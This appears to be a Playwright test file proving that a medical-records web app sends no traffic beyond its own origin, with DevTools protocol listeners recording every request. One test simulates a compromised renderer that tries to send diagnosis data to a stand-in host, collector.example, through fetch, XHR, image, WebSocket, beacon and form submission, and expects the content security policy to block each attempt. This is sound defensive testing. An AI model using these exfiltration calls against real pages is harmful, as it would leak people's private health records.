// Proof of no network, on the Chromium side (docs/SECURITY.md): with the DevTools protocol's
// Network domain listening, import a case with a scanned record and read the questions.
// Every request the page made must be the app's own origin (or data:/blob: of it). Then
// play a compromised renderer: fetch, XHR, an image, a WebSocket, a beacon, a form and a
// navigation to the outside must all be refused before anything is sent. A last test makes
// one deliberate outside request from a page without the app's CSP, to show the listener
// does see such requests (so the zero above means something).
/* eslint-disable no-restricted-globals, no-restricted-properties -- deliberate: a simulated compromised renderer; every attempt must be refused */
import fs from 'node:fs';
import path from 'node:path';
import { expect, test, type CDPSession, type Page } from '@playwright/test';
import { launchApp, newProfileDir, ORIGIN, ROOT, type AppSession } from './harness/index.ts';
import { AppModel } from './harness/app-model.ts';

const CASE = path.resolve(ROOT, '../shared/corpus/case003');
const caseFiles = fs.readdirSync(CASE).filter((f) => f.endsWith('.pdf')).sort().map((f) => path.join(CASE, f));
const isOwn = (url: string) => url.startsWith(`${ORIGIN}/`) || url.startsWith('data:') || url.startsWith(`blob:${ORIGIN}/`);

interface Seen { url: string; type: string; blockedBy?: string; error?: string; status?: number }

/**
 * Every request, WebSocket and WebTransport the page starts, as the DevTools protocol reports
 * them, with how each ended: a response, or a failure (blockedBy: 'csp' when the page's
 * Content-Security-Policy stopped it inside the renderer, before the network stack).
 */
async function listen(page: Page): Promise<{ cdp: CDPSession; seen: Seen[] }> {
  const cdp = await page.context().newCDPSession(page);
  const seen: Seen[] = [];
  const byId = new Map<string, Seen>();
  cdp.on('Network.requestWillBeSent', (e: { requestId: string; type?: string; request: { url: string } }) => {
    const s: Seen = { url: e.request.url, type: e.type ?? '?' };
    seen.push(s);
    byId.set(e.requestId, s);
  });
  cdp.on('Network.loadingFailed', (e: { requestId: string; errorText: string; blockedReason?: string }) => {
    const s = byId.get(e.requestId);
    if (s) { s.error = e.errorText; s.blockedBy = e.blockedReason; }
  });
  cdp.on('Network.responseReceived', (e: { requestId: string; response: { status: number } }) => {
    const s = byId.get(e.requestId);
    if (s) s.status = e.response.status;
  });
  cdp.on('Network.webSocketCreated', (e: { url: string }) => seen.push({ url: e.url, type: 'WebSocket' }));
  cdp.on('Network.webTransportCreated', (e: { url: string }) => seen.push({ url: e.url, type: 'WebTransport' }));
  await cdp.send('Network.enable');
  return { cdp, seen };
}
const outsideOf = (seen: Seen[]) => seen.filter((s) => !isOwn(s.url));

const profile = newProfileDir();
let session: AppSession;
let net: { cdp: CDPSession; seen: Seen[] };

test.describe.configure({ mode: 'serial' });
test.beforeAll(async () => {
  session = await launchApp(profile);
  net = await listen(session.page);
  // load the app again with the listener on, so its own start-up requests are seen too
  await session.page.reload();
  await session.page.locator('.app[data-ready="true"]').waitFor({ timeout: 30_000 });
});
test.afterAll(async () => {
  await session?.close();
  fs.rmSync(profile, { recursive: true, force: true });
});

test('import → facts → questions: every request stays on the app origin', async () => {
  const app = new AppModel(session.page);
  await app.go('records', 'My records');
  await app.addFiles(caseFiles);
  await expect(app.records()).toHaveCount(caseFiles.length);
  await app.allRead();
  await expect(session.page.locator('li.record[data-state="done"]')).toHaveCount(caseFiles.length);
  await expect(session.page.locator('li.record', { hasText: 'text recognition (OCR)' }).first()).toBeVisible();
  await app.go('appointment', 'For my appointment');
  await expect(session.page.locator('li.question').first()).toBeVisible();
  expect((await app.questionTexts()).length).toBeGreaterThan(0);
  expect(net.seen.length, 'the listener saw the app load').toBeGreaterThan(5);
  expect(outsideOf(net.seen), 'requests beyond the app origin').toEqual([]);
  expect(session.requests.outside).toEqual([]);
});

test('a compromised renderer still cannot send anything out', async () => {
  const before = net.seen.length;
  const tried = await session.page.evaluate(async () => {
    const out: Record<string, string> = {};
    const target = 'https://collector.example/records?dx=adenocarcinoma';
    try { await fetch(target, { method: 'POST', body: 'stage IV' }); out.fetch = 'sent'; } catch { out.fetch = 'refused'; }
    out.xhr = await new Promise((r) => {
      const x = new XMLHttpRequest();
      x.onerror = () => r('refused');
      x.onload = () => r('sent');
      try { x.open('GET', target); x.send(); } catch { r('refused'); }
    });
    out.image = await new Promise((r) => { const i = new Image(); i.onerror = () => r('refused'); i.onload = () => r('sent'); i.src = target; });
    out.websocket = await new Promise((r) => {
      try { const w = new WebSocket('wss://collector.example/'); w.onerror = () => r('refused'); w.onopen = () => r('sent'); } catch { r('refused'); }
    });
    try { out.beacon = navigator.sendBeacon(target, 'stage IV') ? 'queued' : 'refused'; } catch { out.beacon = 'refused'; }
    const form = document.createElement('form');
    form.action = target;
    form.method = 'POST';
    document.body.append(form);
    try { form.submit(); out.form = 'submitted'; } catch { out.form = 'refused'; }
    form.remove();
    await new Promise((r) => setTimeout(r, 500));
    return out;
  });
  expect(tried).toMatchObject({ fetch: 'refused', xhr: 'refused', image: 'refused', websocket: 'refused' });
  // a beacon or form the CSP refuses may still report "queued"/"submitted": what matters is below
  await session.page.waitForTimeout(500);
  // Chromium reports some attempts before refusing them: each must have been stopped by the
  // CSP inside the renderer (blockedReason "csp"), and none may have had a response
  const attempts = outsideOf(net.seen.slice(before));
  expect(attempts.filter((s) => s.blockedBy !== 'csp' || s.status !== undefined), 'attempts not stopped by the CSP').toEqual([]);
  // the harness agrees: these were attempts only, and none reached the network layer
  expect(session.requests.attempted.filter((u) => !attempts.some((a) => a.url === u))).toEqual([]);
  expect(session.requests.outside).toEqual([]);
  session.requests.attempted.length = 0;
  // and the app is still here (a form submission the CSP refused leaves Playwright thinking a
  // navigation is pending, so look with evaluate rather than a waiting locator)
  expect(session.page.url().startsWith(`${ORIGIN}/index.html`)).toBe(true);
  expect(await session.page.evaluate(() => !!document.querySelector('.app[data-ready="true"]'))).toBe(true);
});

test('the listener does see an outside request (so the zero above means something)', async () => {
  const page = await session.context.newPage();
  const probe = await listen(page);
  await page.goto('about:blank');
  await page.evaluate(() => fetch('https://collector.example/deliberate').catch(() => undefined));
  await expect.poll(() => outsideOf(probe.seen).map((s) => s.url)).toContain('https://collector.example/deliberate');
  // no CSP here, so it was not stopped in the page: only the harness's filter refused it
  expect(outsideOf(probe.seen)[0].blockedBy).not.toBe('csp');
  await page.close();
  // it reached the harness's route, the stand-in for the session filter, which refused it
  expect(session.requests.outside).toContain('https://collector.example/deliberate');
  session.requests.outside.length = 0;
  session.requests.attempted.length = 0;
});
